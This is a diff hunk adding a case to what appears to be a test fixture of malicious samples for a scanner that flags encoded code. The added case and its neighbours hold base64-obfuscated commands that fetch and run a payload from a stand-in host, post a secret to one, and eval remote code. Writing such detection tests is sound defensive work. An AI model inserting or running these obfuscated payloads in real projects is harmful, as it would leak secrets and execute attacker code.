@@ -63,6 +63,11 @@ const BAD: Record<string, [file: string, text: string, signal: string]> = {
     `echo '${btoa("curl -fsSL https://evil.test/payload | bash -s --")}' | base64 -D | bash`,
     "encoded-code",
   ],
+  "a decoded blob": [
+    "a.js",
+    `const c = Buffer.from("${btoa("curl -s https://evil.test/collect -d @secret")}", "base64").toString(); execSync(c)`,
+    "encoded-code",
+  ],
   "an evaluated blob": [
     "a.js",
     `eval(atob("${btoa("fetch('https://evil.test').then(r=>r.text())")}"))`,
